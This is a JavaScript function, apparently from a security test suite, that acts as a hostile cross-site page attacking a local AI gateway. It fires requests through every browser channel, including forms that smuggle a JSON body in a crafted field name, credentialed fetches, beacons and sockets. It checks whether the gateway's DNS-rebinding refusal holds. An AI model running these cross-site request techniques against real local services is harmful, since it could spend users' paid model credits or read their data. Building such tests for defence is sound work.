// What the page of another site tries with a visitor who may use the gateway: each way that
// browsers offer, on each route. It tells its window how many it tried, and what it could read.
async function attack(target, routes, secrets) {
  const readable = [];
  let tried = 0;
  // A name that was rebound is the gateway's own refusal's to read, and nothing else.
  const refusal = "this gateway is not";
  const rebound = location.origin === target;
  const body = JSON.stringify({ model: "demo", messages: [{ role: "user", content: "spend" }], max_tokens: 5, ...secrets });
  const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 2500))]);
  const found = (vector, route, what) => readable.push(`${vector} ${route.method} ${route.path}: ${what}`);

  /** A node that loads something; gone when it has, or has not for too long. */
  const load = (node, loaded) => soon(new Promise((done) => {
    node.onload = () => { loaded(node); done(); };
    node.onerror = done;
    document.body.append(node);
  })).finally(() => node.remove());
  const make = (name, properties) => Object.assign(document.createElement(name), properties);
  const inFrame = (vector, route) => (frame) => {
    let text = "";
    try {
      text = frame.contentDocument?.body?.innerText ?? "";
    } catch {
      // As it should be.
    }
    if (text.trim() && !(rebound && text.includes(refusal))) found(vector, route, text.slice(0, 80));
  };
  let frames = 0;
  const form = (vector, enctype) => async (route) => {
    const name = `frame-${frames += 1}`;
    const frame = make("iframe", { name });
    const sent = make("form", { method: "post", action: target + route.path, enctype, target: name });
    const field = make("input", { name: body.slice(0, -1) + ',"x":"', value: '"}' });
    sent.append(field);
    document.body.append(sent, frame);
    const answered = new Promise((done) => { frame.onload = done; });
    sent.submit();
    await soon(answered);
    inFrame(vector, route)(frame);
    sent.remove();
    frame.remove();
  };
  const answered = async (vector, route, answer) => {
    if (answer.type === "opaque") return;
    const text = await answer.text();
    if (!(rebound && answer.status === 421 && text.includes(refusal))) found(vector, route, `${answer.status} ${text.slice(0, 80)}`);
  };
  const changes = (route) => !["GET", "HEAD"].includes(route.method);
  const fetched = (vector, options) => async (route) => {
    const stop = new AbortController();
    const given = options(route);
    const asked = fetch(target + route.path, { credentials: "include", signal: stop.signal, ...given })
      .then((answer) => answered(vector, route, answer)).catch(() => {});
    await soon(asked);
    stop.abort();
  };

  const VECTORS = {
    img: (route) => load(make("img", { src: target + route.path }), () => found("img", route, "an image")),
    script: (route) => load(make("script", { src: target + route.path }), () => found("script", route, "ran")),
    iframe: (route) => load(make("iframe", { src: target + route.path }), inFrame("iframe", route)),
    "form text/plain": form("form text/plain", "text/plain"),
    "form multipart": form("form multipart", "multipart/form-data"),
    "fetch no-cors": fetched("fetch no-cors", (route) => ({
      mode: "no-cors", ...(changes(route) && { method: "POST", body, headers: { "content-type": "text/plain" } }),
    })),
    "fetch cors": fetched("fetch cors", (route) => ({
      method: route.method, ...(changes(route) && { body, headers: { "content-type": "application/json" } }),
    })),
    sendBeacon: async (route) => {
      navigator.sendBeacon(target + route.path, new Blob([body], { type: "text/plain" }));
    },
    EventSource: (route) => {
      const source = new EventSource(target + route.path, { withCredentials: true });
      return soon(new Promise((done) => {
        source.onopen = () => { found("EventSource", route, "open"); done(); };
        source.onerror = done;
      })).finally(() => source.close());
    },
    WebSocket: async (route) => {
      let socket;
      try {
        socket = new WebSocket(target.replace(/^http/, "ws") + route.path);
      } catch {
        return;
      }
      await soon(new Promise((done) => {
        socket.onopen = () => { found("WebSocket", route, "open"); done(); };
        socket.onerror = done;
      }));
      socket.close();
    },
  };
  for (const vector of Object.values(VECTORS)) {
    // In handfuls: a browser has six connections to a host, and a few take their time.
    const left = [...routes];
    const worker = async () => {
      for (let route = left.shift(); route; route = left.shift()) {
        tried += 1;
        await vector(route);
      }
    };
    await Promise.all(Array.from({ length: 12 }, worker));
  }
  parent.postMessage({ tried, vectors: Object.keys(VECTORS).length, readable }, "*");
}
